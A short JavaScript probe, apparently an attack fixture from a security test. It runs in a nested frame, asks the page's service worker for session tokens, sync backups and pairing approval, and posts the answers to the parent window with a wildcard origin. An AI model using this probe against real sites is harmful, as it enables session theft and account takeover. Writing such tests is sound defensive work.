// Runs inside of a nested frame: asks the worker, and tells the page what it said.
;(async () => {
  const ready = Promise.race([navigator.serviceWorker.ready, new Promise((resolve) => setTimeout(resolve, 1000, {}))])
  const workers = [navigator.serviceWorker.controller, (await ready).active]
  const told = []
  for (const worker of workers) {
    for (const type of [
      'session.get',
      'session.tokens',
      'sync.newKit',
      'sync.backup',
      'pairing.offer',
      'pairing.approve',
    ]) {
      const { port1, port2 } = new MessageChannel()
      const answer = new Promise((resolve) => {
        port1.onmessage = ({ data }) => resolve(data)
        setTimeout(resolve, 5000, 'no answer')
      })
      worker?.postMessage({ v: 1, id: 'frame', type }, [port2])
      if (worker) told.push([type, await answer])
    }
  }
  parent.postMessage({ fromAttack: true, at: location.href, told }, '*')
})()
